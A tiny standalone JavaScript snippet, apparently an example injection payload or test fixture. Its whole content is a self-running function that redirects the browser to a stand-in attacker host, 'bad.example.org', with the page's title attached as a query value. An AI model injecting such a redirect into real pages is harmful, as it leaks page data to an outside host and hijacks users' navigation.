(function(){
  location.replace ('//bad.example.org/?k=' + document.title);
})();
